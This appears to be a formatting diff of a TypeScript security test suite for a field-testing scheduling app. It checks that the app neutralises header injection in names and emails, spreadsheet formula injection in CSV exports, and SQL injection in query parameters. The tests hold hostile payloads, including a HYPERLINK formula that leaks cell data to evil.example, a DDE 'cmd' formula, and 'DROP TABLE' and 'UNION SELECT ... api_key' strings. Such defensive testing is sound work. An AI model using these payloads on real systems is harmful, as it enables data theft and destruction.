@@ -50,7 +50,10 @@ describe('markup in names, notes and scenario text', () => {
 
   beforeAll(async () => {
     sink = await startSmtpSink();
-    t = await createTestApp({ env: { SMTP_URL: sink.url, PUBLIC_URL: 'http://gt.test' }, clock: new ManualClock('2027-02-22T09:00:00Z') });
+    t = await createTestApp({
+      env: { SMTP_URL: sink.url, PUBLIC_URL: 'http://gt.test' },
+      clock: new ManualClock('2027-02-22T09:00:00Z'),
+    });
   });
 
   afterAll(async () => {
@@ -65,19 +68,32 @@ describe('markup in names, notes and scenario text', () => {
     const hours = ['mon', 'tue', 'wed', 'thu', 'fri'].map((day) => ({ day, start: '00:00', end: '24:00' }));
     // Unicode line separators are not header breaks, and "Bcc:" in a name is only text.
     const testers = [
-      await personWithKey(t, org.adminKey, ['tester'], { name: hostile('Ann\u2028Bcc: evil@example.org'), workingHours: hours }),
+      await personWithKey(t, org.adminKey, ['tester'], {
+        name: hostile('Ann\u2028Bcc: evil@example.org'),
+        workingHours: hours,
+      }),
       await personWithKey(t, org.adminKey, ['tester'], { name: hostile('Bo\u0085'), workingHours: hours }),
     ];
     const quality = await personWithKey(t, org.adminKey, ['quality'], { name: hostile('Quinn') });
     const tp = (
-      await t.http()
+      await t
+        .http()
         .post('/api/v1/touchpoints')
         .set(admin)
-        .send(touchpointBody({ name: hostile('Shop\u2028X-Injected: 1'), channel: 'in_person', contact: hostile('1 High St'), team: hostile('t'), openingHours: ['mon', 'tue', 'wed', 'thu', 'fri'].map((day) => ({ day, open: '09:00', close: '17:00' })) }))
+        .send(
+          touchpointBody({
+            name: hostile('Shop\u2028X-Injected: 1'),
+            channel: 'in_person',
+            contact: hostile('1 High St'),
+            team: hostile('t'),
+            openingHours: ['mon', 'tue', 'wed', 'thu', 'fri'].map((day) => ({ day, open: '09:00', close: '17:00' })),
+          }),
+        )
         .expect(201)
     ).body;
     const scenario = (
-      await t.http()
+      await t
+        .http()
         .post('/api/v1/scenarios')
         .set(admin)
         .send({
@@ -92,16 +108,71 @@ describe('markup in names, notes and scenario text', () => {
         .expect(201)
     ).body;
     const campaign = (
-      await t.http()
+      await t
+        .http()
         .post('/api/v1/campaigns')
         .set(admin)
-        .send({ name: hostile('Campaign'), touchpointIds: [tp.id], testerIds: testers.map((x) => x.person.id), scenarioIds: [scenario.id], contactsPerTouchpointPerWeek: 2, testerWeeklyCap: 1, minSpacingHours: 4, holdLeadMinutes: 1440, graceMinutes: 60, startsOn: '2027-03-01' })
+        .send({
+          name: hostile('Campaign'),
+          touchpointIds: [tp.id],
+          testerIds: testers.map((x) => x.person.id),
+          scenarioIds: [scenario.id],
+          contactsPerTouchpointPerWeek: 2,
+          testerWeeklyCap: 1,
+          minSpacingHours: 4,
+          holdLeadMinutes: 1440,
+          graceMinutes: 60,
+          startsOn: '2027-03-01',
+        })
         .expect(201)
     ).body;
-    await t.http().post(`/api/v1/campaigns/${campaign.id}/plan`).set(admin).send({ from: '2027-03-01', to: '2027-03-07' }).expect(200);
-    await t.http().post('/api/v1/claims').set(auth(quality.key)).send({ touchpointId: tp.id, metric: 'first_contact_resolution', periodStart: '2027-03-01', periodEnd: '2027-03-07', value: 0.9, source: hostile('Review'), reportedAt: '2027-03-08T07:00:00Z' }).expect(201);
-    await t.http().post('/api/v1/claims').set(auth(quality.key)).send({ team: tp.team, metric: 'answer_rate', periodStart: '2027-03-01', periodEnd: '2027-03-07', value: 0.9, source: 'Review', reportedAt: '2027-03-08T07:00:00Z' }).expect(201);
-    await t.http().post('/api/v1/digest-subscriptions').set(auth(quality.key)).send({ name: hostile('Digest'), recipients: ['quality@example.org'], cron: '0 8 * * 1', timezone: 'UTC', periodDays: 7, minContacts: 1 }).expect(201);
+    await t
+      .http()
+      .post(`/api/v1/campaigns/${campaign.id}/plan`)
+      .set(admin)
+      .send({ from: '2027-03-01', to: '2027-03-07' })
+      .expect(200);
+    await t
+      .http()
+      .post('/api/v1/claims')
+      .set(auth(quality.key))
+      .send({
+        touchpointId: tp.id,
+        metric: 'first_contact_resolution',
+        periodStart: '2027-03-01',
+        periodEnd: '2027-03-07',
+        value: 0.9,
+        source: hostile('Review'),
+        reportedAt: '2027-03-08T07:00:00Z',
+      })
+      .expect(201);
+    await t
+      .http()
+      .post('/api/v1/claims')
+      .set(auth(quality.key))
+      .send({
+        team: tp.team,
+        metric: 'answer_rate',
+        periodStart: '2027-03-01',
+        periodEnd: '2027-03-07',
+        value: 0.9,
+        source: 'Review',
+        reportedAt: '2027-03-08T07:00:00Z',
+      })
+      .expect(201);
+    await t
+      .http()
+      .post('/api/v1/digest-subscriptions')
+      .set(auth(quality.key))
+      .send({
+        name: hostile('Digest'),
+        recipients: ['quality@example.org'],
+        cron: '0 8 * * 1',
+        timezone: 'UTC',
+        periodDays: 7,
+        minContacts: 1,
+      })
+      .expect(201);
 
     const [first, second] = await t.dataSource.query(
       `SELECT a.id, a.hold_at, a.reveal_at, a.window_start, a.window_end, p.email, p.timezone FROM assignment a JOIN person p ON p.id = a.tester_id ORDER BY a.window_start`,
@@ -113,17 +184,38 @@ describe('markup in names, notes and scenario text', () => {
       await jobs.run('outbox');
     };
     const minutes = (d: Date, m: number) => new Date(d.getTime() + m * 60_000);
-    const attempted = DateTime.fromJSDate(minutes(first.window_start, 10), { zone: first.timezone }).toFormat("yyyy-MM-dd'T'HH:mm");
+    const attempted = DateTime.fromJSDate(minutes(first.window_start, 10), { zone: first.timezone }).toFormat(
+      "yyyy-MM-dd'T'HH:mm",
+    );
     const promised = DateTime.fromJSDate(second.window_start, { zone: first.timezone }).toISODate()!;
-    const filled = { attemptedAt: attempted, reachedHuman: 'no', transfers: '0', disconnects: '0', resolution: 'unresolved', optionsExplained: 'no', promisedFollowUpBy: promised, notes: hostile('Notes'), 'answers.said': hostile('Said'), 'answers.mood': 'calm', action: 'save' };
+    const filled = {
+      attemptedAt: attempted,
+      reachedHuman: 'no',
+      transfers: '0',
+      disconnects: '0',
+      resolution: 'unresolved',
+      optionsExplained: 'no',
+      promisedFollowUpBy: promised,
+      notes: hostile('Notes'),
+      'answers.said': hostile('Said'),
+      'answers.mood': 'calm',
+      action: 'save',
+    };
 
     // The first tester records on the form (after the reminder); the second misses the test.
     const recordFirst = async () => {
-      const reveal = sink.messages.find((m) => m.subject?.startsWith('Your test contact') && m.to && JSON.stringify(m.to).includes(first.email))!;
+      const reveal = sink.messages.find(
+        (m) => m.subject?.startsWith('Your test contact') && m.to && JSON.stringify(m.to).includes(first.email),
+      )!;
       const link = /http:\/\/gt\.test(\/t\/[A-Za-z0-9_-]{43})/.exec(reveal.text ?? '')![1];
       // the form: scenario text, question labels and choices; then re-rendered with the values as typed
       expectEscaped((await t.http().get(link).expect(200)).text, 'the outcome form');
-      const rerendered = await t.http().post(link).type('form').send({ ...filled, transfers: 'many' }).expect(400);
+      const rerendered = await t
+        .http()
+        .post(link)
+        .type('form')
+        .send({ ...filled, transfers: 'many' })
+        .expect(400);
       expectEscaped(rerendered.text, 'the outcome form re-rendered with an error');
       expect(rerendered.text).toContain(`Notes ${SHOWN_ESCAPED}`);
       await t.http().post(link).type('form').send(filled).expect(303);
@@ -165,7 +257,8 @@ describe('markup in names, notes and scenario text', () => {
     // Every mail: hold, reveal, reminder, follow-up, digest.
     const kinds = new Set<string>();
     for (const mail of sink.messages) {
-      const kind = /^(Please hold|Your test contact|Reminder|Did |Digest)/.exec(mail.subject ?? '')?.[1] ?? mail.subject!;
+      const kind =
+        /^(Please hold|Your test contact|Reminder|Did |Digest)/.exec(mail.subject ?? '')?.[1] ?? mail.subject!;
       kinds.add(kind);
       expectEscaped(String(mail.html), `the mail "${mail.subject}"`);
       expectHeadersIntact(mail);
@@ -199,25 +292,93 @@ describe('CR and LF in names and addresses', () => {
     const before = await fingerprint(t.dataSource);
     const person = (await t.http().post('/api/v1/people').set(admin).send(personBody()).expect(201)).body;
     const tp = (await t.http().post('/api/v1/touchpoints').set(admin).send(touchpointBody()).expect(201)).body;
-    const sub = (await t.http().post('/api/v1/digest-subscriptions').set(admin).send({ name: 'Weekly', recipients: ['q@example.org'], cron: '0 8 * * 1', timezone: 'UTC' }).expect(201)).body;
+    const sub = (
+      await t
+        .http()
+        .post('/api/v1/digest-subscriptions')
+        .set(admin)
+        .send({ name: 'Weekly', recipients: ['q@example.org'], cron: '0 8 * * 1', timezone: 'UTC' })
+        .expect(201)
+    ).body;
     const rows = await fingerprint(t.dataSource);
     void before;
     for (const breakLine of ['\r\n', '\n', '\r']) {
       const smuggled = `x${breakLine}Bcc: evil@example.org`;
-      named(await t.http().post('/api/v1/people').set(admin).send(personBody({ name: `Eve ${smuggled}` })), 'name');
-      named(await t.http().post('/api/v1/people').set(admin).send(personBody({ email: `eve@example.org${breakLine}Bcc: evil@example.org` })), 'email');
+      named(
+        await t
+          .http()
+          .post('/api/v1/people')
+          .set(admin)
+          .send(personBody({ name: `Eve ${smuggled}` })),
+        'name',
+      );
+      named(
+        await t
+          .http()
+          .post('/api/v1/people')
+          .set(admin)
+          .send(personBody({ email: `eve@example.org${breakLine}Bcc: evil@example.org` })),
+        'email',
+      );
       named(await t.http().patch(`/api/v1/people/${person.id}`).set(admin).send({ name: smuggled }), 'name');
-      named(await t.http().post('/api/v1/touchpoints').set(admin).send(touchpointBody({ name: smuggled })), 'name');
+      named(
+        await t
+          .http()
+          .post('/api/v1/touchpoints')
+          .set(admin)
+          .send(touchpointBody({ name: smuggled })),
+        'name',
+      );
       named(await t.http().patch(`/api/v1/touchpoints/${tp.id}`).set(admin).send({ name: smuggled }), 'name');
-      named(await t.http().post('/api/v1/digest-subscriptions').set(admin).send({ name: smuggled, recipients: ['q@example.org'], cron: '0 8 * * 1', timezone: 'UTC' }), 'name');
-      named(await t.http().patch(`/api/v1/digest-subscriptions/${sub.id}`).set(admin).send({ recipients: [`q@example.org${breakLine}Bcc: evil@example.org`] }), 'recipients');
+      named(
+        await t
+          .http()
+          .post('/api/v1/digest-subscriptions')
+          .set(admin)
+          .send({ name: smuggled, recipients: ['q@example.org'], cron: '0 8 * * 1', timezone: 'UTC' }),
+        'name',
+      );
+      named(
+        await t
+          .http()
+          .patch(`/api/v1/digest-subscriptions/${sub.id}`)
+          .set(admin)
+          .send({ recipients: [`q@example.org${breakLine}Bcc: evil@example.org`] }),
+        'recipients',
+      );
       named(await t.http().patch(`/api/v1/organizations/${org.orgId}`).set(admin).send({ name: smuggled }), 'name');
-      named(await t.http().post('/api/v1/scenarios').set(admin).send({ title: smuggled, brief: 'b', channels: ['phone'] }), 'title');
+      named(
+        await t
+          .http()
+          .post('/api/v1/scenarios')
+          .set(admin)
+          .send({ title: smuggled, brief: 'b', channels: ['phone'] }),
+        'title',
+      );
       // CSV: a quoted cell may hold a line break; the row is refused, naming row and field
-      const people = await t.http().post('/api/v1/people/import').set(admin).set('Content-Type', 'text/csv').send(`email,name,roles,timezone\nok@example.org,"${smuggled}",tester,UTC\n"eve@example.org${breakLine}Bcc: evil@example.org",Eve,tester,UTC\n`);
+      const people = await t
+        .http()
+        .post('/api/v1/people/import')
+        .set(admin)
+        .set('Content-Type', 'text/csv')
+        .send(
+          `email,name,roles,timezone\nok@example.org,"${smuggled}",tester,UTC\n"eve@example.org${breakLine}Bcc: evil@example.org",Eve,tester,UTC\n`,
+        );
       expect(people.status).toBe(400);
-      expect(people.body.errors).toEqual(expect.arrayContaining([expect.objectContaining({ row: 1, field: 'name' }), expect.objectContaining({ row: 2, field: 'email' })]));
-      const touchpoints = await t.http().post('/api/v1/touchpoints/import').set(admin).set('Content-Type', 'text/csv').send(`name,channel,contact,timezone,openingHours\n"${smuggled}",phone,+44 20 7946 0000,UTC,mon-fri 09:00-17:00\n`);
+      expect(people.body.errors).toEqual(
+        expect.arrayContaining([
+          expect.objectContaining({ row: 1, field: 'name' }),
+          expect.objectContaining({ row: 2, field: 'email' }),
+        ]),
+      );
+      const touchpoints = await t
+        .http()
+        .post('/api/v1/touchpoints/import')
+        .set(admin)
+        .set('Content-Type', 'text/csv')
+        .send(
+          `name,channel,contact,timezone,openingHours\n"${smuggled}",phone,+44 20 7946 0000,UTC,mon-fri 09:00-17:00\n`,
+        );
       expect(touchpoints.body.errors).toEqual([expect.objectContaining({ row: 1, field: 'name' })]);
     }
     expect(changedTables(rows, await fingerprint(t.dataSource))).toEqual([]);
@@ -239,18 +400,50 @@ describe('formula injection in CSV exports', () => {
     const org = await newOrganization(t);
     const admin = auth(org.adminKey);
     const tester = await personWithKey(t, org.adminKey, ['tester']);
-    const dangerous = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+SUM(1,2)', '-2+3', '@SUM(A1:A2)', "=cmd|' /C calc'!A0"];
+    const dangerous = [
+      '=HYPERLINK("http://evil.example/?"&A1,"x")',
+      '+SUM(1,2)',
+      '-2+3',
+      '@SUM(A1:A2)',
+      "=cmd|' /C calc'!A0",
+    ];
     const ids: string[] = [];
     for (const [i, start] of dangerous.entries()) {
-      ids.push((await t.http().post('/api/v1/touchpoints').set(admin).send(touchpointBody({ name: `${start} ${i}`, team: start, channel: 'in_person', contact: start })).expect(201)).body.id);
+      ids.push(
+        (
+          await t
+            .http()
+            .post('/api/v1/touchpoints')
+            .set(admin)
+            .send(touchpointBody({ name: `${start} ${i}`, team: start, channel: 'in_person', contact: start }))
+            .expect(201)
+        ).body.id,
+      );
     }
     // a leading tab or CR is trimmed from every free-text field; what follows it is neutralised all the same
-    ids.push((await t.http().post('/api/v1/touchpoints').set(admin).send(touchpointBody({ name: 'Tabbed', channel: 'in_person', contact: '\t=1+1 Street', team: '\r@team' })).expect(201)).body.id);
-    const imported = await t.http().post('/api/v1/touchpoints/import').set(admin).set('Content-Type', 'text/csv').send('name,channel,contact,timezone,openingHours,team\n"=1+1 imported",in_person,"-1 Street",UTC,mon-fri 09:00-17:00,"+team"\n');
+    ids.push(
+      (
+        await t
+          .http()
+          .post('/api/v1/touchpoints')
+          .set(admin)
+          .send(touchpointBody({ name: 'Tabbed', channel: 'in_person', contact: '\t=1+1 Street', team: '\r@team' }))
+          .expect(201)
+      ).body.id,
+    );
+    const imported = await t
+      .http()
+      .post('/api/v1/touchpoints/import')
+      .set(admin)
+      .set('Content-Type', 'text/csv')
+      .send(
+        'name,channel,contact,timezone,openingHours,team\n"=1+1 imported",in_person,"-1 Street",UTC,mon-fri 09:00-17:00,"+team"\n',
+      );
     expect(imported.status).toBe(201);
     ids.push(...imported.body.ids);
     for (const [i, id] of ids.entries()) {
-      await t.http()
+      await t
+        .http()
         .post('/api/v1/outcomes')
         .set(auth(tester.key))
         .send({ touchpointId: id, attemptedAt: `2026-11-01T1${i}:00:00Z`, reachedHuman: false, resolution: 'resolved' })
@@ -284,13 +477,48 @@ describe('sort and filter parameters', () => {
     const { org, testers } = await smallCampaign(t);
     const admin = auth(org.adminKey);
     const [tp] = (await t.http().get('/api/v1/touchpoints').set(admin).expect(200)).body.items;
-    await t.http().post('/api/v1/outcomes').set(auth(testers[0].key)).send({ touchpointId: tp.id, attemptedAt: '2027-03-01T10:00:00Z', reachedHuman: false, resolution: 'resolved' }).expect(201);
-    await t.http().post('/api/v1/claims').set(admin).send({ touchpointId: tp.id, metric: 'answer_rate', periodStart: '2027-02-22', periodEnd: '2027-02-28', value: 0.9, source: 'Review', reportedAt: '2027-03-01T09:00:00Z' }).expect(201);
-    await t.http().post('/api/v1/digest-subscriptions').set(admin).send({ name: 'Weekly', recipients: ['q@example.org'], cron: '0 8 * * 1', timezone: 'UTC' }).expect(201);
+    await t
+      .http()
+      .post('/api/v1/outcomes')
+      .set(auth(testers[0].key))
+      .send({ touchpointId: tp.id, attemptedAt: '2027-03-01T10:00:00Z', reachedHuman: false, resolution: 'resolved' })
+      .expect(201);
+    await t
+      .http()
+      .post('/api/v1/claims')
+      .set(admin)
+      .send({
+        touchpointId: tp.id,
+        metric: 'answer_rate',
+        periodStart: '2027-02-22',
+        periodEnd: '2027-02-28',
+        value: 0.9,
+        source: 'Review',
+        reportedAt: '2027-03-01T09:00:00Z',
+      })
+      .expect(201);
+    await t
+      .http()
+      .post('/api/v1/digest-subscriptions')
+      .set(admin)
+      .send({ name: 'Weekly', recipients: ['q@example.org'], cron: '0 8 * * 1', timezone: 'UTC' })
+      .expect(201);
     // Wildcards are text: "50%" and "a_b" find only themselves.
-    await t.http().post('/api/v1/people').set(admin).send(personBody({ name: 'Pat 50% done' })).expect(201);
-    await t.http().post('/api/v1/people').set(admin).send(personBody({ name: 'Pat a_b' })).expect(201);
-    const doc = (await t.http().get('/api/docs-json').expect(200)).body as { paths: Record<string, Record<string, { parameters?: Array<{ name: string; in: string }> }>> };
+    await t
+      .http()
+      .post('/api/v1/people')
+      .set(admin)
+      .send(personBody({ name: 'Pat 50% done' }))
+      .expect(201);
+    await t
+      .http()
+      .post('/api/v1/people')
+      .set(admin)
+      .send(personBody({ name: 'Pat a_b' }))
+      .expect(201);
+    const doc = (await t.http().get('/api/docs-json').expect(200)).body as {
+      paths: Record<string, Record<string, { parameters?: Array<{ name: string; in: string }> }>>;
+    };
     const [sub] = (await t.http().get('/api/v1/digest-subscriptions').set(admin).expect(200)).body.items;
     // a digest run, for the list of its links
     const subscription = await t.dataSource.getRepository(DigestSubscription).findOneByOrFail({ id: sub.id });
@@ -307,26 +535,49 @@ describe('sort and filter parameters', () => {
     const before = await fingerprint(t.dataSource);
     const plain = new Map<string, string>();
     for (const { path } of lists) plain.set(path, (await t.http().get(path).set(admin)).text);
-    const SQL = ["' OR '1'='1", "x' OR 1=1 --", '1; DROP TABLE person; --', "') UNION ALL SELECT id, hash FROM api_key --"];
+    const SQL = [
+      "' OR '1'='1",
+      "x' OR 1=1 --",
+      '1; DROP TABLE person; --',
+      "') UNION ALL SELECT id, hash FROM api_key --",
+    ];
     const problems: string[] = [];
     for (const { path, params } of lists) {
       // parameters no route has: sorting and raw filters are not offered
       for (const extra of ['sort', 'order', 'orderBy', 'filter', 'where', 'sort[name]']) {
-        const res = await t.http().get(path).query(`${encodeURIComponent(extra)}=${encodeURIComponent('name; DROP TABLE person; --')}`).set(admin);
-        if (res.status !== 400 || !res.body.errors?.some((e: { field: string; rule: string }) => e.field === extra && e.rule === 'unknownField')) problems.push(`${path}?${extra}: ${res.status} ${res.text.slice(0, 200)}`);
+        const res = await t
+          .http()
+          .get(path)
+          .query(`${encodeURIComponent(extra)}=${encodeURIComponent('name; DROP TABLE person; --')}`)
+          .set(admin);
+        if (
+          res.status !== 400 ||
+          !res.body.errors?.some((e: { field: string; rule: string }) => e.field === extra && e.rule === 'unknownField')
+        )
+          problems.push(`${path}?${extra}: ${res.status} ${res.text.slice(0, 200)}`);
       }
       for (const param of params) {
         for (const sql of SQL) {
-          const res = await t.http().get(path).query({ [param]: sql }).set(admin);
+          const res = await t
+            .http()
+            .get(path)
+            .query({ [param]: sql })
+            .set(admin);
           const named = res.status === 400 && res.body.errors?.some((e: { field: string }) => e.field === param);
           // taken literally: matching nothing (no stored text holds these)
-          const nothing = res.status === 200 && (res.body.total === 0 || (Array.isArray(res.body.items) && res.body.items.every((m: { n?: number }) => m.n === 0)));
+          const nothing =
+            res.status === 200 &&
+            (res.body.total === 0 ||
+              (Array.isArray(res.body.items) && res.body.items.every((m: { n?: number }) => m.n === 0)));
           if (!named && !nothing) problems.push(`${path}?${param}=${sql}: ${res.status} ${res.text.slice(0, 200)}`);
         }
       }
     }
     expect(problems).toEqual([]);
-    const people = async (q: string) => (await t.http().get('/api/v1/people').query({ q }).set(admin).expect(200)).body.items.map((p: { name: string }) => p.name);
+    const people = async (q: string) =>
+      (await t.http().get('/api/v1/people').query({ q }).set(admin).expect(200)).body.items.map(
+        (p: { name: string }) => p.name,
+      );
     expect(await people('50%')).toEqual(['Pat 50% done']);
     expect(await people('a_b')).toEqual(['Pat a_b']);
     expect(await people('%')).toEqual(['Pat 50% done']);
